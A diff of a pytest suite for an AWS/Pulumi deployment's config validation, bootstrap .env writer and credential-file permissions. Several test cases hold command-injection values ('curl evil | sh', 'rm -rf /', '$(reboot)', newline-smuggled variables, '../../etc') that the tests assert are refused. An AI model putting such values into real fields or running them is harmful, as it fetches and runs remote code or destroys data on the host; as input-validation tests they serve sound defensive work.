@@ -7,6 +7,7 @@ import contextlib
 import fnmatch
 import io
 import json
+import os
 import re
 import runpy
 import subprocess
@@ -41,7 +42,7 @@ def test_defaults_are_the_documented_safe_ones() -> None:
     assert cfg.instance_type == "t3.xlarge" and cfg.root_volume_gb == 60
     assert cfg.ssh_cidrs == () and cfg.allow_unsafe_ingress is False and cfg.force_destroy is False
     assert cfg.ecr_keep_last == 20 and cfg.noncurrent_version_days == 30
-    assert (cfg.mlflow_port, cfg.prefect_port, cfg.api_ports) == (5000, 4200, (8000, 8000))
+    assert cfg.api_ports == (8000, 8000)
     assert cfg.subnet_cidrs == ("10.42.0.0/20", "10.42.16.0/20")
     with pytest.raises(AttributeError):
         cfg.owner = "mallory"  # type: ignore[misc]
@@ -52,6 +53,10 @@ def test_defaults_are_the_documented_safe_ones() -> None:
     [
         ({"owner": ""}, "healthpredict:owner is required"),
         ({"region": ""}, "aws:region is required"),
+        ({"region": "eu-west-1; curl evil | sh"}, "aws:region: 'eu-west-1; curl evil | sh' is not an AWS region"),
+        ({"region": "eu-west-1\nAWS_PROFILE=x"}, "aws:region"),
+        ({"region": "$(reboot)"}, "aws:region"),
+        ({"region": "EU-WEST-1"}, "aws:region"),
         ({"allowed_cidrs": ()}, "healthpredict:allowedCidrs is required"),
         (
             {"allowed_cidrs": ("10.0.0.1/24",)},
@@ -74,7 +79,11 @@ def test_defaults_are_the_documented_safe_ones() -> None:
         ({"repo_url": "https://github.com/x/y.git; rm -rf /"}, "healthpredict:repoUrl"),
         ({"repo_ref": "main; curl evil | sh"}, "healthpredict:repoRef"),
         ({"repo_ref": "../../etc"}, "healthpredict:repoRef"),
-        ({"mlflow_port": 70000}, "healthpredict:mlflowPort"),
+        ({"api_ports": (70000, 70000)}, "healthpredict:apiPorts"),
+        ({"api_ports": (4000, 4300)}, "healthpredict:apiPorts: 4000-4300 includes 4200 (Prefect)"),
+        ({"api_ports": (5000, 5000)}, "healthpredict:apiPorts: 5000-5000 includes 5000 (MLflow)"),
+        ({"api_ports": (1, 65535)}, "healthpredict:apiPorts: 1-65535 includes 5000 (MLflow)"),
+        ({"api_ports": (20, 30)}, "includes 22 (SSH)"),
         ({"compose_file": "../compose.yaml"}, "healthpredict:composeFile"),
         ({"compose_file": "/etc/compose.yaml"}, "healthpredict:composeFile"),
         ({"compose_file": "docker-compose.yml:/etc/x.yml"}, "healthpredict:composeFile"),
@@ -90,8 +99,39 @@ def test_invalid_or_unsafe_config_is_refused_naming_the_key(override: dict[str, 
 def test_unsafe_override_allows_world_services_but_not_ssh() -> None:
     cfg = InfraConfig(**{**VALID, "allowed_cidrs": ("0.0.0.0/0", "::/0"), "allow_unsafe_ingress": True})
     assert cfg.ipv4_allowed == ("0.0.0.0/0",) and cfg.ipv6_allowed == ("::/0",)
-    with pytest.raises(ValueError, match="never opened to a whole range, even with allowUnsafeIngress=true"):
+    with pytest.raises(ValueError, match="never opened to a whole range, whatever minIngressPrefix and allowUnsafe"):
         replace(cfg, ssh_cidrs=("0.0.0.0/0",))
+
+
+@pytest.mark.parametrize("region", ["eu-west-1", "us-east-1", "ap-southeast-4", "us-gov-west-1", "us-isob-east-1",
+                                    "il-central-1", "cn-northwest-1"])  # fmt: skip
+def test_region_names_pass(region: str) -> None:
+    assert InfraConfig(**{**VALID, "region": region}).region == region
+
+
+@pytest.mark.parametrize(
+    ("relaxed", "ssh_cidr"),
+    [
+        ({"min_ingress_prefix": 8}, "198.51.0.0/16"),
+        ({"min_ingress_prefix": 8}, "198.51.100.0/23"),
+        ({"min_ingress_prefix_v6": 16}, "2001:db8::/32"),
+        ({"min_ingress_prefix": 8, "allow_unsafe_ingress": True}, "10.0.0.0/8"),
+    ],
+)
+def test_relaxing_min_ingress_prefix_never_relaxes_ssh(relaxed: dict[str, Any], ssh_cidr: str) -> None:
+    """minIngressPrefix widens what allowedCidrs accepts for the API; SSH keeps its own /24 (IPv6 /48)."""
+    wide_api = "198.51.0.0/16" if ":" not in ssh_cidr else "2001:db8::/32"
+    cfg = InfraConfig(**{**VALID, **relaxed, "allowed_cidrs": (wide_api,)})
+    assert cfg.allowed_cidrs == (wide_api,)
+    with pytest.raises(ValueError, match=rf"healthpredict:sshCidrs contains {ssh_cidr}, wider than /(24|48)"):
+        replace(cfg, ssh_cidrs=(ssh_cidr,))
+    narrow = "198.51.100.0/24" if ":" not in ssh_cidr else "2001:db8:1::/48"
+    assert replace(cfg, ssh_cidrs=(narrow,)).ssh_cidrs == (narrow,)
+
+
+def test_tightening_min_ingress_prefix_tightens_ssh_too() -> None:
+    with pytest.raises(ValueError, match=r"healthpredict:sshCidrs contains 198.51.100.0/24, wider than /28"):
+        InfraConfig(**{**VALID, "min_ingress_prefix": 28, "ssh_cidrs": ("198.51.100.0/24",)})
 
 
 @pytest.mark.parametrize(
@@ -216,48 +256,92 @@ def test_user_data_writes_a_root_only_env_and_reports_its_status() -> None:
     assert "http_put_response_hop_limit" not in script  # the hop limit is the instance's, see the program tests
 
 
-FAKE_METADATA_CURL = """#!/bin/bash
-# The instance metadata service as curl sees it: a token, then answers only to requests that carry it.
-url="${*: -1}"
-case "$url" in
-  */latest/api/token) printf tok; exit 0 ;;
-esac
-[[ " $* " == *"X-aws-ec2-metadata-token: tok"* ]] || exit 22
-case "$url" in
-  */meta-data/public-hostname) [ -n "${PUBLIC_HOSTNAME:-}" ] || exit 22; printf %s "$PUBLIC_HOSTNAME" ;;
-  */meta-data/public-ipv4) printf 198.51.100.7 ;;
-  *) exit 22 ;;
-esac
-"""
-
-
-@pytest.mark.parametrize(
-    ("public_hostname", "expected"),
-    [("ec2-198-51-100-7.eu-west-1.compute.amazonaws.com", "ec2-198-51-100-7.eu-west-1.compute.amazonaws.com"),
-     ("", "198.51.100.7")],
-)  # fmt: skip
-def test_prefect_ui_calls_its_api_at_the_hosts_public_address(
-    tmp_path: Path, public_hostname: str, expected: str
-) -> None:
-    """The UI runs in the user's browser: the API address it is given must be the host's public one, on the port
-    compose publishes for the Prefect server (the default, localhost, is the user's own machine)."""
+def test_prefect_ui_and_mlflow_answer_through_the_tunnel() -> None:
+    """Neither is published beyond the host: the browser reaches them at localhost through a tunnel, so the Prefect
+    UI calls its API at localhost, and MLflow's allowed hosts (compose's default, not overridden) include the
+    tunnel's localhost:5000 and the Minikube pods' host.minikube.internal:5000."""
     script = bootstrap_script(render())
-    start = script.index("public_address() {")
-    function = script[start : script.index("\n}\n", start) + 3]
-    (fake := tmp_path / "bin" / "curl").parent.mkdir()
-    fake.write_text(FAKE_METADATA_CURL)
-    fake.chmod(0o755)
-    probe = f'set -euo pipefail\n{function}public_host="$(public_address)"\nprintf %s "$public_host"\n'
-    env = {"PATH": f"{fake.parent}:/usr/bin:/bin", "PUBLIC_HOSTNAME": public_hostname}
-    proc = subprocess.run(["bash", "-c", probe], capture_output=True, text=True, env=env, timeout=30, check=False)
-    assert (proc.returncode, proc.stdout) == (0, expected), proc.stderr
     env_block = script[script.index("umask 077") : script.index("umask 022")]
     (line,) = [ln.strip() for ln in env_block.splitlines() if "PREFECT_UI_API_URL=" in ln]
-    match = re.fullmatch(r'echo "PREFECT_UI_API_URL=http://\$public_host:(\d+)/api"', line)
-    assert match, line
-    server = yaml.safe_load((REPO_ROOT / "docker-compose.yml").read_text())["services"]["prefect-server"]
-    assert server["environment"]["PREFECT_UI_API_URL"].startswith("${PREFECT_UI_API_URL:-")
-    assert [p for p in server["ports"] if p.endswith(f":{match[1]}:4200")], server["ports"]
+    assert line == 'echo "PREFECT_UI_API_URL=http://localhost:4200/api"'
+    assert "MLFLOW_ALLOWED_HOSTS" not in env_block and "169.254.169.254" not in script
+    services = yaml.safe_load((REPO_ROOT / "docker-compose.yml").read_text())["services"]
+    assert services["prefect-server"]["environment"]["PREFECT_UI_API_URL"].startswith("${PREFECT_UI_API_URL:-")
+    assert [p for p in services["prefect-server"]["ports"] if p.endswith(":4200:4200")]
+    default_hosts = re.fullmatch(
+        r"\$\{MLFLOW_ALLOWED_HOSTS:-(.*)\}", services["mlflow"]["environment"]["MLFLOW_SERVER_ALLOWED_HOSTS"]
+    )
+    assert default_hosts and {"localhost:5000", "host.minikube.internal:5000"} <= set(default_hosts[1].split(","))
+
+
+def run_env_block(tmp_path: Path, **overrides: Any) -> dict[str, str]:
+    """The .env writer of the bootstrap, run by bash in ``tmp_path`` (the SSM reader replaced by a no-op python3)."""
+    script = bootstrap_script(render(**overrides))
+    env_block = script[script.index("umask 077") : script.index("umask 022")]
+    (fake := tmp_path / "bin" / "python3").parent.mkdir()
+    fake.write_text("#!/bin/bash\ncat > /dev/null\n")
+    fake.chmod(0o755)
+    env = {"PATH": f"{fake.parent}:/usr/bin:/bin"}
+    proc = subprocess.run(["bash", "-euo", "pipefail", "-c", env_block], cwd=tmp_path, env=env, capture_output=True,
+                          text=True, timeout=30, check=False)  # fmt: skip
+    assert proc.returncode == 0, proc.stderr
+    written = tmp_path / ".env"
+    assert written.stat().st_mode & 0o777 == 0o600
+    return dict(line.split("=", 1) for line in written.read_text().splitlines())
+
+
+def test_env_file_holds_the_region_and_bucket_as_plain_values(tmp_path: Path) -> None:
+    values = run_env_block(tmp_path, region="us-gov-west-1", bucket_name="healthpredict-bucket-a1b2c3")
+    assert values["AWS_REGION"] == "us-gov-west-1"
+    assert values["HEALTHPREDICT_BUCKET"] == "healthpredict-bucket-a1b2c3"
+    assert values["BIND_ADDRESS"] == "0.0.0.0"
+
+
+@pytest.mark.parametrize("region", ["eu-west-1; curl evil | sh", "eu-west-1\nBIND_ADDRESS=203.0.113.9", '$(reboot)"'])
+def test_bootstrap_refuses_a_region_that_is_not_a_region_name(region: str) -> None:
+    """The script is rendered only for a region name, whatever calls it: the value runs as root on the host."""
+    with pytest.raises(ValueError, match="aws:region"):
+        render(region=region)
+
+
+def test_credentials_file_is_readable_by_its_owner_only(tmp_path: Path) -> None:
+    """The refresher the host's timer runs: the role's credentials, mode 0600, owned by the containers' user,
+    in a folder only root and that user's group can enter, replaced atomically."""
+    from infra_pulumi import compute
+
+    uid, gid = (10001, 10001) if os.geteuid() == 0 else (os.getuid(), os.getgid())
+    target = tmp_path / "run" / "aws" / "credentials"
+    script = tmp_path / "refresh.py"
+    script.write_text(compute._REFRESH_CREDENTIALS)
+    env = {"PATH": os.environ["PATH"], "AWS_ACCESS_KEY_ID": "AKIAEXAMPLE", "AWS_SECRET_ACCESS_KEY": "secret",
+           "AWS_SESSION_TOKEN": "token", "HOME": str(tmp_path)}  # fmt: skip
+    for _ in range(2):  # a refresh replaces the file and keeps its mode and owner
+        proc = subprocess.run([sys.executable, str(script), str(target), f"{uid}:{gid}"], env=env,
+                              capture_output=True, text=True, timeout=60, check=False)  # fmt: skip
+        assert proc.returncode == 0, proc.stderr
+        info = target.stat()
+        assert (info.st_mode & 0o777, info.st_uid, info.st_gid) == (0o600, uid, gid)
+        folder = target.parent.stat()
+        assert (folder.st_mode & 0o777, folder.st_gid) == (0o750, gid)
+    assert "aws_secret_access_key = secret" in target.read_text()
+    assert [p.name for p in target.parent.iterdir()] == ["credentials"]
+
+
+def test_credentials_owner_is_the_user_of_the_containers_that_mount_them() -> None:
+    """The file is readable by its owner alone, so that owner must be the user mlflow, init and the worker run as."""
+    from infra_pulumi import compute
+
+    script = render_bootstrap_script(**USER_DATA_VALUES)
+    assert f"{compute.CREDENTIALS_DIR}/credentials \\\n  {compute.CREDENTIALS_OWNER}\n" in script
+    aws = yaml.safe_load((REPO_ROOT / "docker-compose.aws.yml").read_text())["services"]
+    main = yaml.safe_load((REPO_ROOT / "docker-compose.yml").read_text())["services"]
+    mounting = {name for name, service in aws.items() if any(
+        str(v).startswith(f"{compute.CREDENTIALS_DIR}:") for v in service.get("volumes", []))}  # fmt: skip
+    assert mounting == {"mlflow", "init", "prefect-worker"}
+    dockerfiles = {main[name]["build"].get("dockerfile", "Dockerfile") for name in mounting}
+    for dockerfile in dockerfiles:
+        users = re.findall(r"^USER (\S+)$", (REPO_ROOT / dockerfile).read_text(), flags=re.MULTILINE)
+        assert users[-1] == compute.CREDENTIALS_OWNER, dockerfile
 
 
 def test_env_writer_reads_every_secret_of_the_stack_path_decrypted(tmp_path: Path) -> None:
